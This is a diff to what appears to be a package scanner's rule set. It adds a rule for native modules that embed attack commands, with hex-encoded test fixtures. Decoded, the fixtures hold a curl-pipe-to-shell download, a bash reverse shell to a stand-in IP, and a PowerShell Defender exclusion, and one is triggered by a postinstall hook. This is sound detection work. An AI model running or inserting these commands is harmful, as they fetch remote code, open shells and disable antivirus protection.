+        r#"# Machine code holds a command of an attack
+
+A native module or program of the package holds a command line that runs a program from a place for throw-away files,
+gives a shell to another machine, or takes itself out of the system's protection.
+
+## Why it matters
+
+Machine code needs no shell for honest work, and what it starts cannot be read from its code. The command line can.
+
+## Known benign uses
+
+Runtimes and package managers hold the command that installs them, with their own host; that is not reported.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+module.exports = require("./addon.node");
+== addon.node hex //~ 1
+7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
+0073797374656d006375726c202d7320687474703a2f2f3139382e35312e3130302e373a383038302f75207c20736800
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node run.js"}}
+== run.js
+require("child_process").execFileSync(__dirname + "/bin/check");
+== bin/check hex //~ 1
+7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
+002f62696e2f626173680062617368202d69203e26202f6465762f7463702f3139382e35312e3130302e372f34343320
+303e263100
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+module.exports = require("bindings")("x");
+== build/Release/x.node hex //~ 1
+7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
+0070006f007700650072007300680065006c006c0020002d0043006f006d006d0061006e00640020004100640064002d
+004d00700050007200650066006500720065006e006300650020002d004500780063006c007500730069006f006e0050
+00610074006800200043003a005c0000
+```
+
+## Good
+
+```package
+== package.json
+{"name": "@oven/bun-linux-x64", "version": "1.0.0", "bin": {"bun": "bin/bun"}}
+== bin/bun hex
+7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
+0062756e2075706772616465006375726c202d6673534c2068747470733a2f2f62756e2e73682f696e7374616c6c207c
+206261736800706f7765727368656c6c202d632069726d2062756e2e73682f696e7374616c6c2e707331207c20696578
+00
+```
+
+## References
+
+- MITRE ATT&CK T1059, Command and Scripting Interpreter
+"#,
+    ),
+    (
         "native-code-loaded-at-install",
         r#"# Native code is loaded at install
 
@@ -9256,7 +9926,7 @@ exec(zlib.decompress(base64.b64decode("eJwLycxNBQAD9wGZ")))
 ```
 
 ```package
-== package.json
+== package.json //~ 1
 {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "python3 -c \"exec(__import__('codecs').decode('cevag(1)', 'rot13'))\" || python3 tool"}}
 == tool
 #!/usr/bin/env python3 //~ here
